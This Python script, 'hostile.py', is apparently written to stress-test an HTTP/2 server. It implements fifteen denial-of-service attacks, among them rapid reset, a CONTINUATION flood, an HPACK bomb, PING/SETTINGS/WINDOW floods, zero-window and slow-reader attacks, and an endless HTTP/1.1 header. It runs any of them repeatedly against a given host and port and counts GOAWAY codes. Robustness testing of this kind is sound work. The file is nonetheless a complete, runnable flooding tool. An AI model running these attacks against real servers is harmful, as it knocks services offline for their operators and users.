# SPDX-License-Identifier: MIT
"""Peers that mean harm, as a program of its own: `hostile.py HOST:PORT NAME
SECONDS` does what ATTACKS says, again and again, and prints one JSON object:
{"sent": bytes, "connections": n, "codes": {GOAWAY's: n}}."""

import json
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GET = b"\x82\x86\x84\x41\x01a"          # HPACK: GET http://a/
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING = 0, 1, 2, 3, 4, 6
GOAWAY, WINDOW, CONTINUATION = 7, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, body=b""):
    return (struct.pack(">I", len(body))[1:] + bytes([kind, flags])
            + struct.pack(">I", stream) + body)


OPEN = PREFACE + frame(SETTINGS, 0, 0)
POST = frame(HEADERS, END_HEADERS, 1, b"\x83" + GET[1:])


def requests(after=b"", flags=END_STREAM):
    """Requests on streams of their own, each with something after it."""
    for stream in range(1, 20001, 2):
        yield (frame(HEADERS, END_HEADERS | flags, stream, GET)
               + after.replace(b"STRM", struct.pack(">I", stream)))


def rapid_reset():
    yield OPEN + b"".join(requests(
        b"\0\0\4\3\0STRM" + struct.pack(">I", 8)))


def made_reset():
    """The server is made to reset: too large a window is its stream's error."""
    yield OPEN + b"".join(requests(
        b"\0\0\4\x08\0STRM\x7f\xff\xff\xff", 0))


def flood(first, again):
    def run():
        yield first
        while True:
            yield again * (65536 // len(again) + 1)
    return run


def hpack_bomb():
    """A field of 4 KB in the table, and a byte for each time it is used."""
    big = b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000
    yield OPEN
    for stream in range(1, 2001, 2):
        yield frame(HEADERS, END_STREAM, stream, GET + big) + b"".join(
            frame(CONTINUATION, 0, stream, b"\xbe" * 16000)
            for _ in range(3)) + frame(CONTINUATION, END_HEADERS, stream,
                                       b"\xbe" * 16000)


def never_reads():
    yield (b"GET /metrics HTTP/1.1\r\nhost: a\r\n\r\n" * 100)
    while True:
        yield b"GET /metrics HTTP/1.1\r\nhost: a\r\n\r\n" * 1000


def no_window():
    """Answers asked for, and no window for them."""
    yield (PREFACE + frame(SETTINGS, 0, 0, b"\0\4\0\0\0\0")
           + b"".join(list(requests())[:5000]))


ATTACKS = {
    "rapid_reset": rapid_reset,
    "made_reset": made_reset,
    "ping": flood(OPEN, frame(PING, 0, 0, b"12345678")),
    "settings": flood(OPEN, frame(SETTINGS, 0, 0, b"\0\3\0\0\0\1")),
    "priority": flood(OPEN, frame(PRIORITY, 0, 9999, b"\0\0\0\1\1")),
    "window": flood(OPEN, frame(WINDOW, 0, 0, b"\0\0\0\1")),
    "unknown": flood(OPEN, frame(0xfa, 0, 0, b"abc")),
    "empty_data": flood(OPEN + POST, frame(DATA, 0, 1)),
    "continuation": flood(
        OPEN + frame(HEADERS, 0, 1, GET), frame(CONTINUATION, 0, 1)),
    "long_continuation": flood(
        OPEN + frame(HEADERS, 0, 1, GET),
        frame(CONTINUATION, 0, 1, b"\x40\x01a\x7f\xa1\x1e" + b"b" * 4000)),
    "hpack_bomb": hpack_bomb,
    "never_reads": never_reads,
    "no_window": no_window,
    "garbage": flood(b"", b"\xff\x00\r\n" * 16),
    "endless_header": flood(b"GET / HTTP/1.1\r\nhost: a\r\n",
                            b"x: " + b"y" * 1000 + b"\r\n"),
}


def goaway(data):
    """The code of a GOAWAY in what a server has sent, or None."""
    while len(data) >= 9:
        size = int.from_bytes(data[:3], "big")
        if data[3] == GOAWAY:
            return int.from_bytes(data[13:17], "big")
        data = data[9 + size:]
    return None


def once(at, pieces, end):
    """One connection, until it is cut off: (bytes sent, code)."""
    sent, got = 0, b""
    with socket.create_connection(at, 5) as s:
        s.settimeout(0.5)
        try:
            for piece in pieces:
                while piece:
                    n = s.send(piece)
                    sent += n
                    piece = piece[n:]
                if time.monotonic() > end:
                    break
        except OSError:
            pass
        try:
            while len(got) < 1 << 20:
                more = s.recv(65536)
                if not more:
                    break
                got += more
        except OSError:
            pass
    return sent, goaway(got)


def main():
    host, port = sys.argv[1].rsplit(":", 1)
    end = time.monotonic() + float(sys.argv[3])
    told = {"sent": 0, "connections": 0, "codes": {}}
    while time.monotonic() < end:
        sent, code = once((host, int(port)), ATTACKS[sys.argv[2]](), end)
        told["sent"] += sent
        told["connections"] += 1
        told["codes"][code] = told["codes"].get(code, 0) + 1
    print(json.dumps(told))


if __name__ == "__main__":
    main()
